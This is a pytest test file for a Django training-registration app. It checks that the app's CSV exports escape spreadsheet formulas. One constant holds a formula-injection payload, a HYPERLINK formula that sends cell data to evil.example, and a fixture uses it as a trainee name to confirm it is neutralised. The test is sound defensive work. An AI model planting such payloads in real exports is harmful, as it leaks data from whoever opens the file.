"""Exports: every one opens in a spreadsheet with no live formula, and says the same per
registration (status, result, checkout steps and deadline, certificate, directory, advice)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from typing import Any

import pytest
import time_machine
from django.test import Client

from conftest import ApiClient
from lectern.accounts.services import token_create, user_ensure
from lectern.checkout import services as checkout
from lectern.core.permissions import Principal
from lectern.core.spreadsheet import FORMULA_STARTS, safe_cell
from lectern.events import services as events
from lectern.events.services import LocalTimes
from lectern.memberships import services as memberships
from lectern.registrations import services as registrations
from lectern.registrations.tests.conftest import details
from tests.factories import membership
from tests.world import NOW

pytestmark = pytest.mark.django_db
SYSTEM = Principal.as_system()
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def table(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200, response.content
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(FORMULA_STARTS), cell
    return rows


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20", "'+44 20"),
        ("-3", "'-3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=b", "a=b"),
        ("'=kept", "'=kept"),
        ("", ""),
        (None, ""),
        (-3, "'-3"),
        (12, "12"),
        (True, "yes"),
        (date(2027, 1, 2), "2027-01-02"),
    ],
)
def test_no_cell_starts_a_formula(value: object, written: str) -> None:
    assert safe_cell(value) == written


@pytest.fixture
def setup(db: Any) -> dict[str, Any]:
    """A past event with a trainee who passed through membership B, then registered through
    membership A for a later event; a trainee named like a formula, through A."""
    with time_machine.travel(NOW, tick=False):
        a = membership(tier="gold", start_date=date(2026, 10, 1))
        b = membership(tier="gold", start_date=date(2026, 10, 1))
        memberships.contact_add(
            actor=SYSTEM, membership=a, email="coord@a.example", name="A", role="coordinator"
        )
        past = events.event_create(
            actor=SYSTEM,
            title="Past training",
            timezone="UTC",
            sessions=[LocalTimes("2027-01-05T09:00", "2027-01-05T17:00")],
            capacity=10,
            min_enrolment=1,
            now=datetime(2026, 12, 1, tzinfo=UTC),
        )
        future = events.event_create(
            actor=SYSTEM,
            title="Future training",
            timezone="UTC",
            sessions=[LocalTimes("2027-03-05T09:00", "2027-03-05T17:00")],
            capacity=10,
            min_enrolment=1,
        )
        through_b = registrations.registration_create(
            actor=SYSTEM,
            event_id=past.pk,
            code=b.registration_code,
            details=details(1),
            now=datetime(2026, 12, 5, tzinfo=UTC),
        ).registration
        checkout.attendance_record(
            actor=SYSTEM, event=past, records=[checkout.AttendanceRecord(through_b.pk, 30)]
        )
        checkout.progress_record(
            actor=SYSTEM, trainee=through_b.trainee, requirement="welcome_session", state="passed"
        )
        through_a = registrations.registration_create(
            actor=SYSTEM, event_id=future.pk, code=a.registration_code, details=details(1)
        ).registration
        evil = registrations.registration_create(
            actor=SYSTEM,
            event_id=future.pk,
            code=a.registration_code,
            details=details(2, name=EVIL, affiliation="-Dept"),
        ).registration
    return {"a": a, "b": b, "past": past, "future": future, "through_a": through_a, "evil": evil}


def test_the_coordinator_csv_carries_no_formula_and_only_its_own_checkout(
    client: Client, setup: dict[str, Any]
) -> None:
    a = setup["a"]
    coordinator = ApiClient(client, token_create(user=user_ensure(email="coord@a.example")))
    for response in (
        coordinator.get(f"/memberships/{a.pk}/trainees.csv"),
        _signed_in(client, "coord@a.example").get(f"/memberships/{a.pk}/trainees.csv"),
    ):
        rows = {r["registration_id"]: r for r in table(response)}
        evil = rows[str(setup["evil"].pk)]
        assert evil["name"] == "'" + EVIL
        assert evil["affiliation"] == "'-Dept"
        mine = rows[str(setup["through_a"].pk)]
        assert (mine["status"], mine["checkout_status"], mine["welcome_session"]) == (
            "confirmed",
            "",
            "",
        )


def _signed_in(client: Client, email: str) -> Client:
    client.force_login(user_ensure(email=email))
    return client


def test_the_event_csv_has_attendance_and_checkout(staff_api: ApiClient, setup) -> None:
    [row] = table(staff_api.get(f"/events/{setup['past'].pk}/registrations.csv"))
    assert (row["status"], row["minutes_missed"], row["result"]) == ("attended", "30", "passed")
    assert (row["checkout_status"], row["welcome_session"], row["get_involved"]) == (
        "in_progress",
        "passed",
        "not_started",
    )
    assert row["checkout_deadline"] == "2027-04-05"
    assert row["certified"] == "no"


def test_the_quarter_checkout_and_certificate_exports(staff_api: ApiClient, world) -> None:
    with time_machine.travel(NOW, tick=False):
        quarter = table(staff_api.get("/exports/registrations.csv", quarter="2027-Q1"))
        pipeline = table(staff_api.get("/exports/checkout.csv"))
        awarded = table(
            staff_api.get("/exports/certificates.csv", **{"from": "2027-01-01", "to": "2027-12-31"})
        )
    certified = [r for r in quarter if r["certified"] == "yes"]
    assert [r["certificate_number"] for r in certified] == [world["ids"]["N"]]
    assert {r["trainee_id"] for r in pipeline} == {str(world["ids"]["T"])}
    assert pipeline[0]["days_left"].isdigit()
    assert [r["number"] for r in awarded] == [world["ids"]["N"]]
    assert table(staff_api.get("/exports/registrations.csv", quarter="2026-Q1")) == []
    empty = staff_api.get("/exports/certificates.csv", **{"from": "2028-01-01", "to": "2028-01-01"})
    assert table(empty) == []


@pytest.mark.parametrize(
    ("path", "params", "field"),
    [
        ("/exports/registrations.csv", {"quarter": "2027-Q5"}, "quarter"),
        ("/exports/certificates.csv", {"from": "2027-01-01"}, "to"),
        ("/exports/certificates.csv", {"from": "2027-02-01", "to": "2027-01-31"}, "to"),
        ("/exports/certificates.csv", {"from": "soon", "to": "2027-01-31"}, "from"),
    ],
)
def test_bad_parameters_are_refused_on_the_field(staff_api, path, params, field) -> None:
    response = staff_api.get(path, **params)
    assert response.status_code == 422
    assert response.json()["error"]["code"] == "validation_error"


def test_the_back_office_downloads_the_same(client: Client, world) -> None:
    with time_machine.travel(NOW, tick=False):
        client.force_login(user_ensure(email="staff@x.example", role="staff"))
        page = client.get("/staff/exports/")
        assert "Checkout pipeline" in page.content.decode()
        assert table(client.get("/staff/exports/registrations.csv?quarter=2027-Q1"))
        assert table(client.get("/staff/exports/checkout.csv"))
        assert table(client.get("/staff/exports/certificates.csv?from=2027-01-01&to=2027-12-31"))
        assert table(client.get(f"/staff/exports/events/{world['ids']['P']}/registrations.csv"))
        assert client.get("/staff/exports/registrations.csv?quarter=nope").status_code == 422
        assert client.get("/staff/exports/certificates.csv?from=x&to=y").status_code == 422


def test_the_coordinator_page_shows_progress_per_trainee(client: Client, world) -> None:
    with time_machine.travel(NOW, tick=False):
        client.force_login(user_ensure(email="coord@a.example"))
        page = client.get(f"/memberships/{world['ids']['A']}/").content.decode()
    assert "Welcome session: passed" in page
    assert "Teaching demo: not started" in page
    assert ">Yes, " in page  # certified, with the date
    assert "Not listed" in page
    assert "Attended" in page
